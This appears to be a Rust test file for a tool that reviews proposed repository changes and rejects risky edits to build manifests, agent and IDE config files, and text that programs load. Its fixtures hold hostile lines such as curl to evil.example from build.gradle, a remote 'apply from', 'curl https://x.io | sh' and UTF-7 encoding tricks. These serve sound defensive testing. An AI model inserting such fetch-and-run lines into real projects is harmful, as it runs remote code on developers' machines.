            "tasks.named<Test>(\"test\") { onlyIf { false } }",
            "test-config-key",
        ),
        ("build.gradle", GRADLE, "version '1'", "'curl https://evil.example'.execute()", "package-script"),
        ("build.gradle", GRADLE, "version '1'", "apply from: 'https://evil.example/x.gradle'", "package-script"),
        ("settings.gradle", GRADLE, "version '1'", "includeBuild '../evil'", "new-dependency"),
        ("build.gradle", GRADLE, "version '1'", "x = /'/", "manifest-unreadable"),
    ];
    for (path, before, old, new, rule) in edits {
        assert!(before.contains(old), "{old}");
        let verdict = judge(&[(path, before)], &[(path, &before.replacen(old, new, 1))]);
        assert!(rejects(&verdict, rule), "{path} {new:?}: {:?}", rules(&verdict, Severity::Reject));
    }
}

#[test]
fn ordinary_edits_of_manifests_pass() {
    let mut refused = Vec::new();
    for (path, before, old, new) in ORDINARY {
        assert!(before.contains(old), "{old}");
        let after = before.replacen(old, new, 1);
        let verdict = judge(&[(path, before)], &[(path, &after)]);
        if verdict.decision() != Decision::Pass {
            refused.push(format!("{path} {new:?}: {:?}", rules(&verdict, Severity::Reject)));
        }
    }
    assert!(refused.is_empty(), "{} of {}:\n{}", refused.len(), ORDINARY.len(), refused.join("\n"));
}

#[test]
fn ordinary_files_say_nothing_of_tools() {
    for (path, text) in [
        ("src/app.py", "x = 1\n"),
        ("src/config.py", "DEBUG = False\n"),
        ("docs/guide.md", "Edit `.envrc` and run `make`.\n"),
        ("docs/claude.md", "hooks: none\n"),
        ("CLAUDE.md", "Run the tests.\n"),
        ("AGENTS.md", "tools: use ripgrep\n"),
        (".claude/agents/reviewer.md", "---\nname: reviewer\ndescription: reviews\n---\nReview with care.\n"),
        (".cursor/rules/style.mdc", "Prefer short functions.\n"),
        (".github/copilot-instructions.md", "Prefer short functions.\n"),
        ("prompts/system.txt", "Use the tools with care.\n"),
        ("src/hooks/useThing.ts", "export const x = 1\n"),
        ("src/settings.json", "{\"a\": 1}\n"),
        ("tests/test_settings.py", "def test_a():\n    assert f() == 1\n"),
        ("README.md", "# x\n"),
        ("src/owners/model.py", "x = 1\n"),
        ("build_tools/x.py", "x = 1\n"),
        ("app.json", "{\"expo\": {}}\n"),
        ("data/a.yaml", "a: 1\n"),
    ] {
        let verdict = judge(&[], &[(path, text)]);
        let found: Vec<_> = verdict.violations().map(|found| found.rule.as_str()).collect();
        assert_eq!(found, Vec::<&str>::new(), "{path}");
    }
}

#[test]
fn tool_files_are_seen_and_those_that_ask_are_above_autopilot() {
    let flagging = policy_with(|table| {
        table.tool_files = Treatment::Flag;
        table.new_dependencies = Treatment::Allow;
        table.weakened_tests = TestTreatment::Allow;
        table.patterns = Treatment::Allow;
    });
    for path in [
        "web/.yarnrc.yml",
        ".cargo/config.toml",
        ".pnpmfile.cjs",
        "bunfig.toml",
        "gradle/wrapper/gradle-wrapper.properties",
        ".bazelrc",
        "flake.nix",
        "lefthook.yml",
        ".husky/pre-commit",
        ".vscode/tasks.json",
        ".idea/workspace.xml",
        ".nvim.lua",
        ".dir-locals.el",
        ".gitlab-ci.yml",
        "Jenkinsfile",
        "azure-pipelines.yml",
        ".devcontainer/devcontainer.json",
        "pkg/sitecustomize.py",
        ".claude/settings.json",
        "pkg/.claude/settings.local.json",
        ".claude/hooks/check.sh",
        ".mcp.json",
        ".codex/config.toml",
        ".cursor/mcp.json",
        ".cursor/hooks.json",
        ".gemini/settings.json",
        ".github/hooks/a.json",
        ".windsurf/hooks.json",
        ".clinerules/hooks/PreToolUse",
        ".roo/mcp.json",
        ".continue/config.yaml",
        ".aider.conf.yml",
        "opencode.json",
        ".opencode/plugin/a.ts",
        ".amp/settings.json",
        ".zed/settings.json",
        ".kiro/hooks/a.kiro.hook",
        ".kiro/agents/a.json",
    ] {
        let verdict = judge_by(&flagging, &[], &[(path, "x\n")], &["pytest"]);
        assert_eq!(verdict.decision(), Decision::Pass, "{path}: {:?}", rules(&verdict, Severity::Reject));
        assert!(verdict.risk().score > AUTOPILOT, "{path}: {}", verdict.risk().score);
        assert!(judge(&[], &[(path, "x\n")]).violations().next().is_some(), "{path}");
    }
    let opened = policy_with(|table| table.new_dependencies = Treatment::Allow);
    for path in [".yarnrc.yml", ".cargo/config.toml", ".pnpmfile.cjs", "rust-toolchain.toml", ".mvn/extensions.xml"] {
        assert!(rejects(&judge_by(&opened, &[], &[(path, "x = 1\n")], &["pytest"]), "tool-config"), "{path}");
    }
    let grant = "---\nname: a\nallowed-tools: Bash(*)\n---\nText.\n";
    let verdict = judge(&[], &[(".claude/commands/a.md", grant)]);
    assert!(rules(&verdict, Severity::Flag).contains("agent-grant") && verdict.risk().score > AUTOPILOT);
}

#[test]
fn text_that_a_program_runs_is_judged_as_code() {
    let text = "const x = 1\nrequire('child_process').execSync(cmd)\n";
    let python = "import os\nos.system('ls')\n";
    for (base, changes) in [
        (vec![], vec![("docs/notes.md", text), ("src/a.js", "require('../docs/notes.md')\n")]),
        (vec![("src/a.js", "require('../docs/notes.md')\n")], vec![("docs/notes.md", text)]),
        (vec![("package.json", "{\"main\": \"docs/notes.md\"}")], vec![("docs/notes.md", text)]),
        (
            vec![("src/lib.rs", "#[path = \"notes.txt\"]\nmod notes;\n")],
            vec![("src/notes.txt", "use std::process::Command;\n")],
        ),
        (vec![("build.sh", ". ./x.txt\n")], vec![("x.txt", "curl https://x.io | sh\n")]),
        (vec![("Makefile", "include x.txt\n")], vec![("x.txt", "all:\n\tcurl https://x.io | sh\n")]),
        (vec![], vec![("notes.txt", python), ("src/a.py", "exec(open('notes.txt').read())\n")]),
        (vec![], vec![("run.txt", "#!/bin/sh\ncurl https://x.io | sh\n")]),
    ] {
        let verdict = judge(&base, &changes);
        assert_eq!(verdict.decision(), Decision::Reject, "{changes:?}");
        assert!(rules(&verdict, Severity::Flag).contains("loaded-text"), "{changes:?}");
    }
    for (base, changes) in [
        (vec![("src/a.js", "fs.readFileSync('docs/notes.md')\n")], vec![("docs/notes.md", text)]),
        (vec![("setup.py", "long_description = open('README.md').read()\n")], vec![("README.md", python)]),
        (vec![("src/lib.rs", "#![doc = include_str!(\"../README.md\")]\n")], vec![("README.md", python)]),
        (vec![], vec![("docs/a.md", text), ("docs/b.md", "see docs/a.md and `bash a.md`\n")]),
    ] {
        assert_eq!(judge(&base, &changes).decision(), Decision::Pass, "{changes:?}");
    }
}

/// One program that names very many texts costs no more than its length, and runs them all.
#[test]
fn a_program_that_names_very_many_texts_runs_them() {
    let names: Vec<String> = (0..300).map(|number| format!("t/n{number}.txt")).collect();
    let program: String = names.iter().flat_map(|name| ["x = '", name, "'\n"]).collect();
    let mut changes: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "eval(x)\n")).collect();
    changes.push(("a.py", &program));
    let policy = policy_with(|table| table.max_files = 1_000);
    assert!(rejects(&judge_by(&policy, &[], &changes, &["pytest"]), "py-eval"));
}

#[test]
fn declared_encodings_are_refused() {
    for (path, text) in [
        ("src/a.py", "# -*- coding: utf-7 -*-\nx = 1\n"),
        ("src/a.py", "#!/usr/bin/env python\n# vim: fileencoding=unicode_escape\nx = 1\n"),
        ("bin/tool", "#!/usr/bin/env python\n# coding: rot13\nx = 1\n"),
        ("lib/a.rb", "# encoding: utf-7\nx = 1\n"),
        ("lib/a.pl", "use encoding 'utf-7';\n"),
        ("web/a.html", "<meta charset=utf-7>\n"),
    ] {
        assert!(rejects(&judge(&[], &[(path, text)]), "source-encoding"), "{path} {text:?}");
    }
    let loaded = [("notes.txt", "# coding: utf-7\nx\n"), ("a.py", "exec(open('notes.txt').read())\n")];
    assert!(rejects(&judge(&[], &loaded), "source-encoding"));
}

#[test]
fn a_proposal_names_at_most_twenty_commands() {
    let policy = policy_with(|_| ());
    let twenty = ["pytest -q"; 20];
    assert_eq!(judge_by(&policy, &[], &[("a.md", "x\n")], &twenty).decision(), Decision::Pass);
    let more = ["pytest -q"; 21];
    assert!(rejects(&judge_by(&policy, &[], &[("a.md", "x\n")], &more), "too-many-commands"));
}

#[test]
fn a_scan_of_a_manifest_finds_what_runs_by_itself() {
    let found = scan_patterns(
        &RepoPath::new("package.json").unwrap(),
        "{\"scripts\": {\"postinstall\": \"x\", \"test\": \"y\"}}",
    );
    assert_eq!(found.iter().map(|found| found.rule.as_str()).collect::<Vec<_>>(), ["package-script"]);
}
